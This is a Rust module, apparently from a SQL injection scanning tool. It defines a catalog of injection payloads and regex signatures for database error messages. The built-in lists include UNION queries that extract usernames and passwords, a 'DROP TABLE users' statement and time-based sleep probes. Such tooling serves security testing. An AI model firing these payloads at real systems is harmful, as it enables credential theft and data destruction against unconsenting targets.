use lazy_static::lazy_static;
use log::warn;
use regex::{Regex, RegexBuilder};
use serde::{Deserialize, Serialize};
use std::fmt;
use std::fs;
use std::io::BufRead;
use std::path::Path;
use std::sync::Arc;

use crate::errors::ProbeError;

/// Injection payload families. Only `TimeBased` is read through the timing
/// oracle; the others are judged on response content.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum PayloadCategory {
    Basic,
    Union,
    ErrorBased,
    Blind,
    TimeBased,
}

impl PayloadCategory {
    pub const ALL: [PayloadCategory; 5] = [
        PayloadCategory::Basic,
        PayloadCategory::Union,
        PayloadCategory::ErrorBased,
        PayloadCategory::Blind,
        PayloadCategory::TimeBased,
    ];

    pub fn from_prefix(prefix: &str) -> Option<Self> {
        match prefix.trim().to_ascii_lowercase().as_str() {
            "basic" => Some(PayloadCategory::Basic),
            "union" => Some(PayloadCategory::Union),
            "error" | "error-based" => Some(PayloadCategory::ErrorBased),
            "blind" => Some(PayloadCategory::Blind),
            "time" | "time-based" => Some(PayloadCategory::TimeBased),
            _ => None,
        }
    }
}

impl fmt::Display for PayloadCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            PayloadCategory::Basic => "basic",
            PayloadCategory::Union => "union",
            PayloadCategory::ErrorBased => "error-based",
            PayloadCategory::Blind => "blind",
            PayloadCategory::TimeBased => "time-based",
        };
        f.write_str(s)
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Payload {
    pub category: PayloadCategory,
    pub text: String,
}

impl Payload {
    pub fn new(category: PayloadCategory, text: impl Into<String>) -> Self {
        Self {
            category,
            text: text.into(),
        }
    }
}

pub const BASIC: &[&str] = &[
    "' OR 1=1 --",
    "' OR '1'='1",
    "admin' --",
    "' OR ''='",
];

pub const UNION: &[&str] = &[
    "' UNION SELECT NULL, username, password FROM users --",
    "' UNION ALL SELECT NULL, NULL, version() --",
    "' UNION SELECT 1, user(), database() --",
];

pub const ERROR_BASED: &[&str] = &[
    "' AND 1=CONVERT(int, (SELECT @@version)) --",
    "' OR 1=CAST((SELECT version()) AS int) --",
    "'; DROP TABLE users --",
];

pub const BLIND: &[&str] = &[
    "' AND 1=1 --",
    "' AND 1=2 --",
    "' AND SUBSTRING((SELECT version()), 1, 1) = '5' --",
];

pub const TIME_BASED: &[&str] = &[
    "' OR SLEEP(5) --",
    "' WAITFOR DELAY '0:0:5' --",
    "' OR pg_sleep(5) --",
];

/// (engine, pattern) pairs matched case-insensitively against response bodies.
pub const ERROR_SIGNATURES: &[(&str, &str)] = &[
    ("MySQL", r"You have an error in your SQL syntax"),
    ("MySQL", r"Warning: mysql_"),
    ("MySQL", r"mysql_fetch"),
    ("MSSQL", r"unclosed quotation mark after the character string"),
    ("MSSQL", r"Microsoft OLE DB Provider for SQL Server"),
    ("MSSQL", r"ODBC SQL Server Driver"),
    ("PostgreSQL", r"PG::SyntaxError"),
    ("PostgreSQL", r"Warning: pg_"),
    ("PostgreSQL", r"syntax error at or near"),
    ("SQLite", r"sqlite3\.OperationalError"),
    ("SQLite", r"SQLite Error"),
    ("Oracle", r"ORA-0(1756|0933)"),
    ("PDO", r"SQLSTATE\["),
];

/// A compiled error signature.
#[derive(Debug)]
pub struct Signature {
    pub engine: &'static str,
    pub regex: Regex,
}

lazy_static! {
    static ref SIGNATURES: Vec<Signature> = ERROR_SIGNATURES
        .iter()
        .filter_map(|&(engine, pattern)| {
            RegexBuilder::new(pattern)
                .case_insensitive(true)
                .build()
                .ok()
                .map(|regex| Signature { engine, regex })
        })
        .collect();
}

/// Read-only payload table plus the database error signatures.
///
/// Built once at startup and shared behind an `Arc`; nothing mutates it
/// during a run.
#[derive(Debug, Clone)]
pub struct PayloadCatalog {
    payloads: Vec<Payload>,
}

impl PayloadCatalog {
    pub fn builtin() -> Self {
        let tables: [(PayloadCategory, &[&str]); 5] = [
            (PayloadCategory::Basic, BASIC),
            (PayloadCategory::Union, UNION),
            (PayloadCategory::ErrorBased, ERROR_BASED),
            (PayloadCategory::Blind, BLIND),
            (PayloadCategory::TimeBased, TIME_BASED),
        ];
        let payloads = tables
            .iter()
            .flat_map(|(cat, list)| list.iter().map(move |p| Payload::new(*cat, *p)))
            .collect();
        Self { payloads }
    }

    pub fn from_payloads(payloads: Vec<Payload>) -> Self {
        Self { payloads }
    }

    /// Builtin table extended with the entries of a payload file.
    ///
    /// Lines are `category:payload` or bare payloads (treated as basic).
    /// Empty lines and `#` comments are skipped.
    pub fn with_file(path: &str) -> Result<Self, ProbeError> {
        let mut catalog = Self::builtin();
        let extra = load_payload_file(path)?;
        if extra.is_empty() {
            warn!("No payloads loaded from {}", path);
        }
        catalog.payloads.extend(extra);
        Ok(catalog)
    }

    pub fn into_shared(self) -> Arc<Self> {
        Arc::new(self)
    }

    pub fn payloads(&self) -> &[Payload] {
        &self.payloads
    }

    pub fn by_category(&self, category: PayloadCategory) -> impl Iterator<Item = &Payload> {
        self.payloads.iter().filter(move |p| p.category == category)
    }

    pub fn len(&self) -> usize {
        self.payloads.len()
    }

    pub fn is_empty(&self) -> bool {
        self.payloads.is_empty()
    }

    /// Returns the first error signature found in `body`, if any.
    pub fn match_error_signature(&self, body: &str) -> Option<&'static Signature> {
        SIGNATURES.iter().find(|s| s.regex.is_match(body))
    }
}

impl Default for PayloadCatalog {
    fn default() -> Self {
        Self::builtin()
    }
}

fn parse_payload_line(line: &str) -> Option<Payload> {
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return None;
    }
    if let Some((prefix, rest)) = line.split_once(':') {
        if let Some(category) = PayloadCategory::from_prefix(prefix) {
            let rest = rest.trim_start();
            return (!rest.is_empty()).then(|| Payload::new(category, rest));
        }
    }
    Some(Payload::new(PayloadCategory::Basic, line))
}

pub fn load_payload_file(path: &str) -> Result<Vec<Payload>, ProbeError> {
    let file = fs::File::open(Path::new(path))
        .map_err(|e| ProbeError::Payload(format!("failed to open {}: {}", path, e)))?;
    let reader = std::io::BufReader::new(file);
    Ok(reader
        .lines()
        .map_while(Result::ok)
        .filter_map(|l| parse_payload_line(&l))
        .collect())
}
